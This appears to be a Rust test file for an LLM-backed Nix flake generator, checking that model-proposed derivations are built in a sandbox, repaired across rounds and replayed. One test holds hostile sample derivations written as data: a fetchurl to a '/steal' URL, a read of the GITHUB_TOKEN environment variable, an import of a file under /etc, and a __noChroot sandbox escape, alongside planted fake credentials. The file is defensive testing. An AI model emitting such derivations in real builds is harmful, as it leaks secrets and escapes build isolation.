//! gen-flake for a project no detector recognises: the model's derivation, validated by a
//! real (sandboxed, confined) build against the stub nixpkgs and written; hostile code
//! rejected before anything is built; unknown attributes sent back with the closest names; a
//! broken derivation repaired in round 2; record and replay; the offline message and
//! `--show-prompt`.

use std::path::Path;

use serde_json::{json, Value};

use crate::chat::{chat_server, nfai_direct, ChatServer};
use crate::common::{fixtures, nix_available, NIX_CONFIG};

/// Planted in the project: none may leave the machine.
const GITHUB_TOKEN: &str = "ghp_Abcdefghijklmnopqrstuvwxyz0123456789";
const AWS_KEY: &str = "AKIAIOSFODNN7EXAMPLE";

/// A C program built by a custom script: no detector knows it.
fn custom_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).unwrap();
    write(
        "build.sh",
        &format!(
            "#!/bin/sh\n# release with GITHUB_TOKEN={GITHUB_TOKEN}\nset -e\nmkdir -p \"$1/bin\"\ncc -o \"$1/bin/greet\" main.c\n"
        ),
    );
    write(
        "main.c",
        "#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n",
    );
    write("NOTES.txt", &format!("aws_access_key_id = {AWS_KEY}\n"));
    dir
}

/// A derivation that runs build.sh, with `build` as its build phase.
fn package(build: &str) -> String {
    format!(
        "stdenv.mkDerivation {{\n  pname = \"greet\";\n  version = \"0.1.0\";\n  src = ./.;\n  inherit nativeBuildInputs buildInputs;\n  buildPhase = ''\n    {build}\n  '';\n  installPhase = ''\n    mkdir -p $out/bin\n    cp build-out/bin/greet $out/bin/\n  '';\n}}"
    )
}

fn answer(description: &str, package: &str, native: &[&str]) -> String {
    json!({"proposals": [{"description": description, "package": package,
        "nativeBuildInputs": native, "buildInputs": [], "devShell": ["jq"]}]})
    .to_string()
}

fn good() -> String {
    answer(
        "runs build.sh",
        &package("sh ./build.sh build-out"),
        &["gnumake"],
    )
}

/// `nfai gen-flake DIR --format json --llm openai` against `server` and the stub nixpkgs.
fn gen_flake(dir: &Path, server: &ChatServer, extra: &[&str]) -> (Value, String, i32) {
    let llm = [
        "--llm",
        "openai",
        "--llm-url",
        &server.url,
        "--llm-model",
        "m",
    ];
    run(dir, &[&llm, extra].concat())
}

/// `nfai gen-flake DIR --format json` against the stub nixpkgs.
fn run(dir: &Path, extra: &[&str]) -> (Value, String, i32) {
    let stub = fixtures().join("nixpkgs-stub");
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .current_dir(dir)
        .args(["gen-flake", ".", "--format", "json"])
        .args(["--nix-arg=--override-input", "--nix-arg=nixpkgs"])
        .arg(format!("--nix-arg=path:{}", stub.display()))
        .args(extra)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let report = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{stderr}", String::from_utf8_lossy(&out.stdout)));
    (report, stderr, out.status.code().unwrap_or(-1))
}

fn no_secret_sent(server: &ChatServer) {
    for r in server.requests() {
        assert!(!r.contains(GITHUB_TOKEN) && !r.contains(AWS_KEY), "{r}");
    }
}

/// A good answer: the flake nfai writes around it is evaluated and built confined, the tools
/// of build.sh are on the dev shell's PATH, and it is written. The request held the build
/// script as a numbered snippet and the file list, and no secret.
#[test]
fn a_good_derivation_is_built_and_written() {
    if !nix_available("a_good_derivation_is_built_and_written") {
        return;
    }
    let dir = custom_project();
    let server = chat_server(vec![good()]);
    let (report, stderr, _) = gen_flake(dir.path(), &server, &[]);
    assert_eq!(report["validated"], "build", "{report:#}\n{stderr}");
    assert_eq!(report["written"], true);
    assert_eq!(report["model"], "“runs build.sh”");
    assert_eq!(report["rounds"][0]["verdict"], "validated");
    let checks: Vec<&str> = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["ok"] == true)
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    assert!(
        checks.contains(&"nix flake check --no-build (confined)")
            && checks.contains(&"nix build of 1 package(s) and the devShell (sandboxed)")
            && checks
                .contains(&"command -v of 2 tool(s) on the devShell's PATH (nix print-dev-env)"),
        "{checks:?}"
    );
    let flake = std::fs::read_to_string(dir.path().join("flake.nix")).unwrap();
    assert!(flake.contains("nativeBuildInputs = with pkgs; [ gnumake ];"));
    assert!(flake.contains("                  sh ./build.sh build-out\n"));
    assert!(flake.contains("packages = with pkgs; [ coreutils gcc jq ];"));
    let asked = &server.requests()[0];
    assert!(asked.contains("gen-derivation") && asked.contains("build.sh"));
    assert!(
        asked.contains("    5 | cc -o \\\"$1/bin/greet\\\" main.c"),
        "{asked}"
    );
    no_secret_sent(&server);
}

/// Hostile answers (a fetcher, an environment read, an absolute import, `__noChroot`) are
/// rejected with a reason each, before anything is evaluated or built; nothing is written and
/// nothing but the requests reaches the server. The same through the command backend.
#[test]
fn hostile_derivations_are_rejected_unbuilt() {
    let hostile = |description: &str, package: &str| {
        json!({"description": description, "package": package,
            "nativeBuildInputs": [], "buildInputs": [], "devShell": []})
    };
    let answer = |addr: &str| {
        json!({"proposals": [
            hostile("fetch", &format!("stdenv.mkDerivation {{ pname = \"x\"; version = \"1\"; src = pkgs.fetchurl {{ url = \"http://{addr}/steal\"; hash = \"\"; }}; }}")),
            hostile("env", "stdenv.mkDerivation { name = builtins.getEnv \"GITHUB_TOKEN\"; src = ./.; }"),
            hostile("import", "stdenv.mkDerivation { name = \"x\"; src = ./.; passthru = import /etc/nfai-secret.nix; }"),
            hostile("chroot", "stdenv.mkDerivation { name = \"x\"; src = ./.; __noChroot = true; }"),
        ]})
        .to_string()
    };
    let rejected = |dir: &Path, (report, stderr, code): (Value, String, i32)| {
        assert_eq!(code, 1);
        assert!(
            report["checks"].as_array().unwrap().is_empty(),
            "{report:#}"
        );
        assert_eq!(report["written"], false);
        assert_eq!(report["not_written"], "no proposal of the model validated");
        assert_eq!(report["rounds"][0]["dropped"], 4);
        assert_eq!(report["rounds"][0]["verdict"], "no_proposals");
        for why in [
            "dropped the LLM proposal “fetch”: adds a fetcher or fixed-output attribute `fetchurl`",
            "“env”: uses the impure “getEnv”",
            "“import”: reads “/etc/nfai-secret.nix”, outside the project",
            "“chroot”: adds a fetcher or fixed-output attribute `__noChroot`",
        ] {
            assert!(stderr.contains(why), "{why}\n{stderr}");
        }
        assert!(!dir.join("flake.nix").exists());
    };

    let dir = custom_project();
    let server = crate::chat::chat_server_answering(answer);
    rejected(
        dir.path(),
        gen_flake(dir.path(), &server, &["--max-rounds", "1"]),
    );
    assert!(server.other_requests().is_empty());
    no_secret_sent(&server);

    // The command backend: the program saves the request it is given and answers the same.
    let dir = custom_project();
    let agent_dir = tempfile::tempdir().unwrap();
    let agent = agent_dir.path().join("agent.sh");
    std::fs::write(agent_dir.path().join("answer.json"), answer("127.0.0.1:9")).unwrap();
    std::fs::write(
        &agent,
        "#!/bin/sh\nd=$(dirname \"$0\")\ncat > \"$d/request.json\"\ncat \"$d/answer.json\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let command = agent.display().to_string();
    let llm = [
        "--llm",
        "command",
        "--llm-command",
        &command,
        "--max-rounds",
        "1",
    ];
    rejected(dir.path(), run(dir.path(), &llm));
    let request = std::fs::read_to_string(agent_dir.path().join("request.json")).unwrap();
    assert!(request.contains("gen-derivation") && request.contains("build.sh"));
    assert!(!request.contains(GITHUB_TOKEN) && !request.contains(AWS_KEY));
}

/// Round 1: one proposal names an attribute the project's nixpkgs lacks (not built), the
/// other fails to build; both go back to the model, the first with the closest existing names,
/// the second as nfai diagnosed its failure. Round 2's repair is validated and written.
#[test]
fn unknown_attributes_and_broken_builds_go_back_to_the_model() {
    if !nix_available("unknown_attributes_and_broken_builds_go_back_to_the_model") {
        return;
    }
    let dir = custom_project();
    let proposal = |description: &str, build: &str, native: &str| {
        json!({"description": description, "package": package(build),
            "nativeBuildInputs": [native], "buildInputs": [], "devShell": []})
    };
    let round1 = json!({"proposals": [
        proposal("typo", "sh ./build.sh build-out", "gnumak"),
        proposal("cmake", "cmake . && make", "gnumake"),
    ]})
    .to_string();
    let server = chat_server(vec![round1, good()]);
    let (report, stderr, _) = gen_flake(dir.path(), &server, &[]);
    assert_eq!(report["validated"], "build", "{report:#}\n{stderr}");
    let rounds = report["rounds"].as_array().unwrap();
    assert_eq!(rounds.len(), 2);
    assert_eq!(
        (&rounds[0]["verdict"], &rounds[0]["dropped"]),
        (&json!("progress"), &json!(1))
    );
    assert_eq!(rounds[1]["verdict"], "validated");
    assert!(
        stderr.contains("dropped the LLM proposal “typo”: not built: the project's nixpkgs has no `pkgs.gnumak`")
            && stderr.contains("round 1/3: progress: missing_build_tool"),
        "{stderr}"
    );
    let asked = &server.requests()[1];
    assert!(
        asked.contains("has no `pkgs.gnumak` (closest names: gnumake"),
        "{asked}"
    );
    assert!(
        asked.contains("cmake . && make") && asked.contains("missing_build_tool"),
        "{asked}"
    );
    assert!(std::fs::read_to_string(dir.path().join("flake.nix"))
        .unwrap()
        .contains("sh ./build.sh build-out"));
}

/// A recorded run replays bit for bit with no server; the offline backend says that `--llm`
/// can propose a derivation; `--show-prompt` prints the request and sends nothing.
#[test]
fn replay_offline_and_show_prompt() {
    if !nix_available("replay_offline_and_show_prompt") {
        return;
    }
    let dir = custom_project();
    let server = chat_server(vec![good()]);
    let (recorded, stderr, _) = gen_flake(dir.path(), &server, &["--dry-run", "--record"]);
    assert_eq!(recorded["validated"], "build", "{stderr}");
    let transcript = std::fs::read_dir(dir.path().join(".nfai/transcripts"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let replay = ["--dry-run", "--replay", transcript.to_str().unwrap()];
    let (replayed, _, _) = run(dir.path(), &replay);
    assert_eq!(replayed, recorded, "the same output");
    assert_eq!(server.requests().len(), 1, "replayed without the server");
    // Unvalidated, a model's derivation is shown and labelled, never written.
    let (shown, _, code) = run(dir.path(), &[&replay[1..], &["--no-validate"]].concat());
    assert_eq!(code, 1);
    assert_eq!(
        (&shown["validated"], &shown["written"]),
        (&json!("none"), &json!(false))
    );
    assert!(shown["not_written"]
        .as_str()
        .unwrap()
        .contains("--no-validate"));
    assert!(shown["files"][0]["diff"]
        .as_str()
        .unwrap()
        .contains("+                  sh ./build.sh build-out"));
    assert!(!dir.path().join("flake.nix").exists());

    let out = nfai_direct()
        .current_dir(dir.path())
        .args(["gen-flake", "."])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("nothing to build recognised") && stderr.contains("`--llm BACKEND`"),
        "{stderr}"
    );

    let out = nfai_direct()
        .current_dir(dir.path())
        .args([
            "gen-flake",
            ".",
            "--llm",
            "openai",
            "--llm-url",
            &server.url,
        ])
        .arg("--show-prompt")
        .output()
        .unwrap();
    assert!(out.status.success());
    let prompt: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(prompt["task"], "gen-derivation");
    assert!(prompt["user"].as_str().unwrap().contains("File `build.sh`"));
    assert_eq!(server.requests().len(), 1, "nothing sent");
    assert!(!dir.path().join("flake.nix").exists());
}
